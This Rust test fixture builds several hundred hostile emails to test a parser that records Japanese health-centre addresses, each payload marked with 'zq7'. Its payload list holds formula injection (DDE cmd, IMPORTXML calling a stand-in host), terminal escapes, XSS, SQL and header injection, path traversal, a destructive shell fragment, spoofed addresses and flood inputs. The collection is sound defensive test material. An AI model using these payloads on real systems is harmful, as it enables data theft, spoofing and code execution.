//! Some three hundred hostile mails of kinds tests/hostile.rs does not have: every payload says [`MARK`], so that wherever
//! it comes out alive it is seen.

use base64::prelude::{BASE64_STANDARD, Engine as _};
use std::fmt::Write as _;

/// Stands in every payload, and nowhere else.
pub(crate) const MARK: &str = "zq7";
/// The only addresses that may ever be in the directory.
pub(crate) const TRUE: [&str; 2] = ["kansen@city.minato.lg.jp", "hoken@city.minato.lg.jp"];
/// Where an attacker would have certificates sent to.
const EVIL: &str = "evil@zq7.example.com";

const TO: &str = "To: covid19@bigtreetc.com\r\nCc: follow-up@mhlw.go.jp\r\n";
const FROM: &str = "From: =?UTF-8?B?5riv5Yy6?= <tanto@city.minato.lg.jp>\r\n";
const SUBJECT: &str = "自治体・保健所メールアドレスの連絡（港区）";
const TEXT: &str =
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n";

/// What a cell, a terminal, a page, a path or a header may be made to do.
pub(crate) const PAYLOADS: [&str; 60] = [
    "=DDE(\"cmd\";\"/C zq7\";\"x\")",
    "\u{feff}=zq7()",
    "\u{a0}=zq7()",
    "\u{3000}＝zq7()",
    "\u{200b}\u{ad}=zq7()",
    "\u{2060}@zq7",
    "﹦zq7()",
    "−2+zq7",
    "|zq7",
    "  \t +zq7",
    "'=zq7()",
    "\";=zq7();\"",
    "x\",\"=zq7()",
    "x\r\n=zq7()",
    "x\t=zq7()\t@zq7",
    "sep=;zq7",
    "=IMPORTXML(CONCAT(\"http://zq7.example/?\",A1),\"//a\")",
    "=HYPERLINK(\"http://zq7.example\",\"港区\")",
    "\u{1b}P1;1|zq7\u{1b}\\",
    "\u{1b}]52;c;enE3\u{7}zq7",
    "\u{1b}[?1049hzq7\u{1b}[201~",
    "\u{1b}_Gzq7\u{1b}\\",
    "\u{1b}]1337;File=zq7:\u{7}",
    "zq7\u{5}\u{e}\u{f}\u{1c}\u{1d}\u{1e}\u{1f}",
    "zq7\u{b}\u{c}\u{7f}\u{80}\u{9f}",
    "\u{61c}zq7\u{200e}\u{200f}",
    "zq7\u{206a}\u{206f}\u{fff9}x\u{fffb}",
    "zq7\u{e0020}\u{e007f}\u{180e}\u{34f}",
    "zq7\u{115f}\u{3164}\u{ffa0}",
    "\u{2067}\u{202e}zq7\u{2069}",
    "<svg><script>zq7</script>",
    "<svg/onload=zq7>",
    "<math><mi//xlink:href=\"data:x,zq7\">",
    "<iframe srcdoc=\"<script>zq7</script>\">",
    "<a href=\" java\u{1}script:zq7\">x</a>",
    "<style>@import'//zq7'</style>",
    "</title><script>zq7</script>",
    "</textarea></pre><script>zq7</script>",
    "<!--><script>zq7</script>",
    "<meta http-equiv=refresh content=0;url=//zq7>",
    "<base href=//zq7>",
    "\" onfocus=zq7 autofocus x=\"",
    "' onfocus=zq7 autofocus x='",
    "` onfocus=zq7 `",
    "&#60;script&#62;zq7&#60;/script&#62;",
    "\\u003cscript\\u003ezq7",
    "%3Cscript%3Ezq7",
    "＜script＞zq7＜/script＞",
    "{{ zq7 }}{% include \"../../zq7\" %}",
    "{{''.__class__.__mro__}}zq7",
    "../../../../tmp/zq7",
    "..%2f..%2fzq7",
    "\\\\zq7.example\\share\\x",
    "C:\\..\\zq7:stream",
    "~/.ssh/zq7;$(zq7)`zq7`|zq7",
    "-rf zq7 --no-preserve-root",
    "zq7.pdf\0.exe",
    "CON.zq7",
    "x\r\nBcc: evil@zq7.example.com\r\n\r\nzq7",
    "zq7' OR '1'='1'; DROP TABLE x;--",
];

#[derive(Debug)]
pub(crate) struct Mail {
    pub(crate) name: String,
    pub(crate) raw: Vec<u8>,
}

impl Mail {
    fn new(name: impl Into<String>, raw: impl Into<Vec<u8>>) -> Self {
        Self { name: name.into(), raw: raw.into() }
    }
}

/// The header of a registration as it should be, but for the kind of its body.
fn head(subject: &str) -> String {
    format!("{FROM}{TO}Subject: {subject}\r\n")
}

/// A registration in a body of another kind.
fn of_kind(subject: &str, kind: &str, body: &str) -> String {
    format!("{}MIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n{body}", head(subject))
}

/// A registration as it should be, but for its body.
fn written(body: &str) -> String {
    format!("{}{TEXT}\r\n{body}", head(SUBJECT))
}

fn form(authority: &str, centre: &str, address: &str) -> String {
    format!(
        "お世話になっております。\r\n\r\n<自治体（保健所設置主体）>\r\n{authority}　{}\r\n\r\n<保健所>\r\n{centre}　{address}\r\n",
        TRUE[0]
    )
}

fn proper() -> String {
    form("港区", "みなと保健所", TRUE[1])
}

fn word(bytes: &[u8]) -> String {
    format!("=?UTF-8?B?{}?=", BASE64_STANDARD.encode(bytes))
}

fn quoted(text: &str) -> String {
    text.replace('\\', "\\\\").replace('"', "\\\"")
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn attached(part: &str) -> String {
    let parts = format!(
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{}\r\n--b\r\n{part}\r\n\r\nx\r\n--b--\r\n",
        proper()
    );
    of_kind(SUBJECT, "multipart/mixed; boundary=b", &parts)
}

/// A payload in one of the fields; which, goes round.
fn in_field(field: usize, payload: &str) -> (&'static str, String) {
    let head = |lines: String| format!("{lines}{TO}{TEXT}\r\n{}", proper());
    let subject = |s: String| head(format!("{FROM}Subject: {s}\r\n"));
    let b = word(payload.as_bytes());
    match field {
        0 => {
            // The payload falls apart into words that are one when joined.
            let halves: Vec<u8> = payload.bytes().collect();
            let (one, two) = halves.split_at(halves.len() / 2);
            ("subject in halves", subject(format!("{}\r\n {}", word(one), word(two))))
        }
        1 => ("subject twice encoded", subject(word(b.as_bytes()))),
        2 => ("subject alone", subject(b)),
        3 => ("sender's name", head(format!("From: {b} <tanto@city.minato.lg.jp>\r\nSubject: {SUBJECT}\r\n"))),
        4 => {
            let from = format!("From: \"{}\"@city.minato.lg.jp\r\nSubject: {SUBJECT}\r\n", quoted(payload));
            ("sender's local part", head(from))
        }
        5 => ("reply-to", head(format!("{FROM}Reply-To: {b} <x@city.minato.lg.jp>\r\nSubject: {SUBJECT}\r\n"))),
        6 => ("name of a receiver", {
            format!("{FROM}To: {b} <covid19@bigtreetc.com>\r\nSubject: {SUBJECT}\r\n{TEXT}\r\n{}", proper())
        }),
        7 => (
            "authentication",
            head(format!("Authentication-Results: mx; dkim=pass ({payload})\r\n{FROM}Subject: {SUBJECT}\r\n")),
        ),
        8 => ("message id in words", head(format!("{FROM}Message-ID: <{b}@x>\r\nSubject: {SUBJECT}\r\n"))),
        9 => {
            ("program's mark", head(format!("{FROM}Auto-Submitted: auto-replied; {payload}\r\nSubject: {SUBJECT}\r\n")))
        }
        10 => (
            "file name",
            attached(&format!("Content-Type: application/pdf; name*0*=utf-8''{}; name*1=x", percent(payload))),
        ),
        11 => ("file name twice", {
            let name = format!("filename=\"{}\"; filename*=utf-8''{}", quoted(payload), percent(payload));
            attached(&format!("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; {name}"))
        }),
        12 => ("authority", subject(SUBJECT.to_owned()).replace("\r\n港区　", &format!("\r\n港区{payload}　"))),
        13 => ("centre", subject(SUBJECT.to_owned()).replace("みなと保健所　", &format!("みなと保健所{payload}　"))),
        14 => ("page", {
            let page = proper().replace('<', "&lt;").replace("\r\n", "<br>\r\n");
            let kind = TEXT.replace("text/plain", "text/html");
            format!("{FROM}Subject: {SUBJECT}\r\n{TO}{kind}\r\n<title>{payload}</title><p>{payload}</p>{page}")
        }),
        15 => ("report", {
            format!(
                "Return-Path: <>\r\nFrom: MAILER-DAEMON@x.example\r\nTo: bounce@followup.mhlw.go.jp\r\nSubject: Undelivered {b}\r\n\
                 MIME-Version: 1.0\r\nContent-Type: multipart/report; boundary=b\r\n\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n\
                 Reporting-MTA: dns; {payload}\r\n\r\nFinal-Recipient: rfc822; \"{payload}\"@zq7.example\r\nOriginal-Recipient: rfc822; x@zq7.example\r\n\
                 Action: failed\r\nStatus: 5.1.1 {payload}\r\nRemote-MTA: dns; {payload}\r\nDiagnostic-Code: smtp; 550 {payload}\r\n\
                 --b\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: <{payload}>\r\nSubject: {payload}\r\n\r\n--b--\r\n"
            )
        }),
        16 => ("report in words", {
            let head = "Return-Path: <>\r\nFrom: postmaster@x.example\r\nTo: bounce@followup.mhlw.go.jp\r\n";
            format!("{head}Subject: 配信不能通知 {b}\r\n{TEXT}\r\n<x@zq7.example>: 550 {payload}\r\n")
        }),
        17 => ("complaint", {
            format!(
                "From: fbl@x.example\r\nTo: bounce@followup.mhlw.go.jp\r\nSubject: {b}\r\nMIME-Version: 1.0\r\n\
                 Content-Type: multipart/report; report-type=feedback-report; boundary=b\r\n\r\n--b\r\nContent-Type: message/feedback-report\r\n\r\n\
                 Feedback-Type: {payload}\r\nOriginal-Rcpt-To: x@zq7.example\r\n--b--\r\n"
            )
        }),
        18 => ("question", subject(b).replace(&proper(), &format!("端末を替えたいのですが。\r\n{payload}\r\n"))),
        _ => ("notice as data", {
            let json = serde_json::json!({"notificationType": "Bounce", "bounce": {"bounceType": payload, "bouncedRecipients": [
                {"emailAddress": "x@zq7.example", "status": payload, "diagnosticCode": payload}]}});
            format!(
                "From: no-reply@sns.amazonaws.com\r\nTo: bounce@followup.mhlw.go.jp\r\nSubject: {b}\r\n{TEXT}\r\n{json}\r\n"
            )
        }),
    }
}
const FIELDS: usize = 20;
/// In how many fields each payload stands.
const FIELDS_EACH: usize = 4;

pub(crate) fn all() -> Vec<Mail> {
    let mut mails = Vec::new();
    for (no, payload) in PAYLOADS.iter().enumerate() {
        for turn in 0..FIELDS_EACH {
            let (field, raw) = in_field((no + turn * 5 + no / FIELDS) % FIELDS, payload);
            mails.push(Mail::new(format!("{payload:?} in {field}"), raw));
        }
    }
    addresses(&mut mails);
    doubles(&mut mails);
    floods(&mut mails);
    mails
}

/// Addresses that mean another than they seem to, for a centre and for a sender.
fn addresses(mails: &mut Vec<Mail>) {
    let list = [
        "user%city.minato.lg.jp@zq7.example.com",
        "zq7.example.com!hoken@city.minato.lg.jp",
        "@zq7.example.com:hoken@city.minato.lg.jp",
        "<@zq7.example.com,@x.example:hoken@city.minato.lg.jp>",
        "\"hoken@city.minato.lg.jp\"@zq7.example.com",
        "\"hoken@city.minato.lg.jp> \"@zq7.example.com",
        "hoken@city.minato.lg.jp(@zq7.example.com)",
        "hoken(@city.minato.lg.jp)@zq7.example.com",
        "(comment)evil@zq7.example.com",
        "hoken@city.minato.lg.jp\u{0}@zq7.example.com",
        "hoken@city.minato.lg.jp\t@zq7.example.com",
        "evil@zq7.example.com#@city.minato.lg.jp",
        "evil@[IPv6:2001:db8::1]",
        "evil@3221225985",
        "evil@0x7f.1",
        "hoken@city.minato.lg.jp:25@zq7.example.com",
        "hoken@сity.minato.lg.jp",
        "hoken@city.mɪnato.lg.jp",
        "hoken@xn--ity-0ee.minato.lg.jp",
        "hoken@city.minato.lg.jp.\u{200b}zq7.example.com",
        "hoken@city\u{2044}minato.lg.jp",
        "hoken@city.minato.lg.jp/zq7.example.com",
        ".hoken@city.minato.lg.jp",
        "hoken.@city.minato.lg.jp",
        "ho..ken@city.minato.lg.jp",
        "\"\"@city.minato.lg.jp",
        "=?utf-8?Q?evil=40zq7.example.com?=@city.minato.lg.jp",
        "hoken@city.minato.lg.jp\r\n evil@zq7.example.com",
    ];
    let long = [
        format!("{}@city.minato.lg.jp", "h".repeat(70)),
        format!("hoken@{}jp", "a.".repeat(130)),
        format!("{}@x.jp", "zq7".repeat(20_000)),
    ];
    for address in list.into_iter().map(str::to_owned).chain(long) {
        let name: String = address.chars().take(60).collect();
        let body = form("港区", "みなと保健所", &address);
        mails.push(Mail::new(format!("centre {name:?}"), written(&body)));
        let raw = format!("From: {address}\r\n{TO}Subject: zq7\r\n{TEXT}\r\nzq7\r\n");
        mails.push(Mail::new(format!("sender {name:?}"), raw));
    }
}

/// Fields and parts that stand there twice and differ.
fn doubles(mails: &mut Vec<Mail>) {
    let evil = form("港区", "みなと保健所", EVIL);
    let twice = [
        ("types", "Content-Type: text/html\r\nContent-Type: text/plain; charset=utf-8\r\n"),
        ("encodings", "Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 8bit\r\n"),
        ("dispositions", "Content-Disposition: inline\r\nContent-Disposition: attachment; filename=zq7\r\n"),
        ("subjects", "Subject: zq7\r\n\tSubject: x\r\nSUBJECT: =zq7()\r\n"),
        ("dates", "Date: zq7\r\nDate: Mon, 27 Apr 2020 10:00:00 +0900\r\n"),
        ("message ids", "Message-ID: <zq7@x>\r\nMessage-ID: <zq7@y>\r\n"),
        ("paths", "Return-Path: <>\r\nReturn-Path: <evil@zq7.example.com>\r\n"),
        ("senders", "Sender: evil@zq7.example.com\r\nFrom : evil@zq7.example.com\r\n"),
        ("folded names", "Sub\r\n ject: zq7\r\n: zq7\r\n =zq7\r\n"),
        ("versions", "MIME-Version: 9.zq7\r\n"),
    ];
    for (name, lines) in twice {
        mails.push(Mail::new(format!("two {name}"), format!("{lines}{}", written(&proper()))));
        mails.push(Mail::new(format!("two {name} behind"), format!("{}{TEXT}{lines}\r\n{}", head(SUBJECT), proper())));
    }
    let text = "Content-Type: text/plain; charset=utf-8";
    let parts = [
        (
            "boundaries",
            "multipart/mixed; boundary=b; boundary=c".to_owned(),
            format!("--c\r\n{text}\r\n\r\n{evil}\r\n--c--\r\n--b\r\n{text}\r\n\r\n{}\r\n--b--\r\n", proper()),
        ),
        (
            "ends",
            "multipart/mixed; boundary=b".to_owned(),
            format!("--b\r\n{text}\r\n\r\n{}\r\n--b--\r\n--b\r\n{text}\r\n\r\n{evil}\r\n--b--\r\n", proper()),
        ),
        (
            "texts",
            "multipart/alternative; boundary=b".to_owned(),
            format!("--b\r\n{text}\r\n\r\n{}\r\n--b\r\n{text}\r\n\r\n{evil}\r\n--b--\r\n", proper()),
        ),
        (
            "related texts",
            "multipart/related; boundary=b".to_owned(),
            format!("--b\r\n{text}\r\n\r\n{evil}\r\n--b\r\n{text}\r\n\r\n{}\r\n--b--\r\n", proper()),
        ),
        (
            "same boundary inside",
            "multipart/mixed; boundary=b".to_owned(),
            format!(
                "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n{text}\r\n\r\n{evil}\r\n--b--\r\n{}--b--\r\n",
                proper()
            ),
        ),
        (
            "mails inside",
            "multipart/digest; boundary=b".to_owned(),
            format!(
                "--b\r\n\r\n{text}\r\nSubject: zq7\r\n\r\n{evil}\r\n--b\r\n\r\n{text}\r\n\r\n{}\r\n--b--\r\n",
                proper()
            ),
        ),
    ];
    for (name, kind, body) in parts {
        mails.push(Mail::new(format!("two {name}"), of_kind(SUBJECT, &kind, &body)));
    }
}

/// Much of something small.
fn floods(mails: &mut Vec<Mail>) {
    const MANY: usize = 4_000;
    let many = |piece: &str| piece.repeat(MANY);
    let heads = [
        ("receivers", format!("To: {}covid19@bigtreetc.com\r\n", many("zq7@x.example, "))),
        ("subjects", many("Subject: zq7\r\n")),
        ("received", many("Received: from zq7 by zq7; zq7\r\n")),
        ("folds", format!("X-Z: zq7{}\r\n", many("\r\n zq7"))),
        ("comments", format!("From: {}zq7{} <a@x.example>\r\n", many("("), many(")"))),
        ("escapes", format!("From: \"{}\" <a@x.example>\r\n", many("\\\\\\\""))),
        ("groups", format!("From: {}\r\n", many("zq7: a@x.example;,"))),
        ("words", format!("Subject: {}\r\n", many("=?utf-8?Q?zq7?= "))),
        ("words in words", format!("Subject: {}zq7{}\r\n", many("=?utf-8?Q?"), many("?="))),
        ("parameters", format!("Content-Type: text/plain{}\r\n", many("; zq7=1"))),
        (
            "continuations",
            format!(
                "Content-Disposition: attachment{}\r\n",
                (0..MANY).fold(String::new(), |mut all, no| {
                    let _ = write!(all, "; filename*{no}*=zq7");
                    all
                })
            ),
        ),
        ("references", format!("References: {}\r\n", many("<zq7@x.example> "))),
        ("failed recipients", format!("X-Failed-Recipients: {}\r\n", many("zq7@x.example, "))),
        ("authentications", many("Authentication-Results: mx; dkim=pass header.d=zq7\r\n")),
    ];
    for (name, lines) in heads {
        mails.push(Mail::new(format!("many {name}"), format!("{lines}{}", written(&proper()))));
    }
    let bodies = [
        ("cells", "text/csv", many("zq7,=zq7(),\r\n")),
        ("tags", "text/html", format!("{}zq7", many("<div><table><tr><td>"))),
        ("entities", "text/html", format!("{}zq7", many("&#x0000000000001b;&#9999999999;&zq7"))),
        ("attributes", "text/html", format!("<p {}>zq7</p>", many("zq7=1 "))),
        ("styles", "text/html", format!("<p style=\"{}\">zq7</p>", many("display:none;"))),
        ("combining marks", "text/plain; charset=utf-8", format!("港区{}zq7", many("\u{301}"))),
        ("section marks", "text/plain; charset=utf-8", many("<保健所>\r\nzq7\r\n")),
        ("addresses", "text/plain; charset=utf-8", many("みなと保健所 evil@zq7.example.com\r\n")),
        ("quotes", "text/plain; charset=utf-8", format!("{}zq7", many(">"))),
        ("soft breaks", "text/plain\r\nContent-Transfer-Encoding: quoted-printable", many("zq7=\r\n")),
        (
            "blocks of the status",
            "message/delivery-status",
            many("Final-Recipient: rfc822; zq7@x.example\r\nAction: failed\r\n\r\n"),
        ),
        ("mails inside", "message/rfc822", format!("{}\r\nzq7", many("Content-Type: message/rfc822\r\n\r\n"))),
        ("alternatives", "multipart/alternative; boundary=b", many("--b\r\nContent-Type: text/html\r\n\r\n<p>zq7\r\n")),
        (
            "files",
            "multipart/mixed; boundary=b",
            many("--b\r\nContent-Disposition: attachment; filename=\"=zq7\"\r\n\r\nx\r\n"),
        ),
    ];
    for (name, kind, body) in bodies {
        mails.push(Mail::new(format!("many {name}"), of_kind(&format!("{SUBJECT} zq7"), kind, &body)));
    }
}
